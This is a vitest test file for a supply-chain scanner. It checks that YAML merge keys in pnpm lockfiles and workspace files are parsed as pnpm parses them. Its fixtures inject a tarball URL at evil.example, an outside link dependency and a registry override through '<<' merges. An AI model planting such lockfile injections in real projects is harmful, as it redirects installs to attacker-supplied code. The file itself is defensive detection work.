import { describe, expect, it } from 'vitest';
import { pnpmLock9 } from '../helpers/lockfile-text.js';
import { repoWith, scanDeps } from './helpers.js';

/**
 * pnpm reads pnpm-lock.yaml and pnpm-workspace.yaml with js-yaml's `load` (`@pnpm/lockfile.fs` `_read`,
 * read-yaml-file), whose DEFAULT_SCHEMA reads a plain `<<` key as a merge: the source mapping's keys are copied in
 * unless the mapping writes them itself (loader `storeMappingPair` → `mergeMappings`). A quoted `'<<'` is a plain key.
 */
const SHA512 = 'sha512-XI5MPzVNApjAyhQzphX8BkmKsKUxD4LdyK24iZeQHHlX5mJ5/bY6VVcZ1D3T0SXdC4cNuDgp5RX8RsfFuv3XrQ==';
const EVIL = 'https://evil.example/left-pad-1.3.0.tgz';
const MANIFEST = '{"name":"app","version":"1.0.0","dependencies":{"left-pad":"^1.3.0"}}';

/** A lockfile whose root depends on left-pad@1.3.0; its `packages` lines start at line 10. */
function lockfile(packages: string[], snapshots: string[] = ['  left-pad@1.3.0: {}']): string {
  return pnpmLock9({ 'left-pad': '1.3.0' }, packages, { snapshots });
}

async function findings(files: Record<string, string>): Promise<string[]> {
  const root = await repoWith({ 'package.json': MANIFEST, ...files });
  const r = await scanDeps(root);
  return r.findings
    .filter((f) => !['CPD131', 'CPD137'].includes(f.ruleId))
    .map((f) => `${f.ruleId}@${f.location.path}:${f.location.line}`);
}

describe('pnpm: YAML merge keys (<<) read as pnpm reads them', () => {
  it('a tarball merged into a resolution is the tarball pnpm downloads', async () => {
    const lock = lockfile(['  left-pad@1.3.0:', `    resolution: {integrity: ${SHA512}, <<: {tarball: '${EVIL}'}}`]);
    const root = await repoWith({ 'package.json': MANIFEST, 'pnpm-lock.yaml': lock });
    const r = await scanDeps(root);
    const injected = r.findings.filter((f) => f.ruleId === 'CPD020');
    expect(injected.map((f) => f.location.line)).toEqual([10]);
    expect(injected[0]?.message).toContain(EVIL);
  });

  it('a package merged into `packages` is installed, and reported at the merge', async () => {
    const lock = lockfile([`  <<: {'left-pad@1.3.0': {resolution: {integrity: ${SHA512}, tarball: '${EVIL}'}}}`]);
    expect(await findings({ 'pnpm-lock.yaml': lock })).toEqual(['CPD020@pnpm-lock.yaml:10']);
  });

  it('two merges in one mapping are no duplicate key (js-yaml stores no `<<`)', async () => {
    const lock = lockfile(
      ['  left-pad@1.3.0:', `    resolution: {integrity: ${SHA512}}`],
      [
        '  left-pad@1.3.0:',
        '    <<: {optionalDependencies: {}}',
        "    <<: {dependencies: {helper: 'link:../../outside'}}",
      ],
    );
    expect(await findings({ 'pnpm-lock.yaml': lock })).toEqual(['CPD017@pnpm-lock.yaml:16']);
  });

  it('a merge of something that is not a mapping is a broken lockfile, at its line', async () => {
    const lock = lockfile(['  left-pad@1.3.0:', '    <<: not-a-map', `    resolution: {integrity: ${SHA512}}`]);
    const root = await repoWith({ 'package.json': MANIFEST, 'pnpm-lock.yaml': lock });
    const r = await scanDeps(root);
    expect(r.findings.map((f) => `${f.ruleId}:${f.location.line}`)).toEqual(['CPD001:11']);
    expect(r.findings[0]?.message).toContain('merge key');
  });

  it("a quoted '<<' is a key like any other, not a merge (guard)", async () => {
    const lock = lockfile(['  left-pad@1.3.0:', `    resolution: {integrity: ${SHA512}, '<<': {tarball: '${EVIL}'}}`]);
    expect(await findings({ 'pnpm-lock.yaml': lock })).toEqual([]);
  });

  it('a registry merged into pnpm-workspace.yaml is a registry pnpm uses (CPD134)', async () => {
    const lock = lockfile(['  left-pad@1.3.0:', `    resolution: {integrity: ${SHA512}}`]);
    const workspace = "packages:\n  - .\n<<: {registry: 'https://npm.mirror.example/'}\n";
    expect(await findings({ 'pnpm-lock.yaml': lock, 'pnpm-workspace.yaml': workspace })).toEqual([
      'CPD134@pnpm-workspace.yaml:3',
    ]);
  });
});
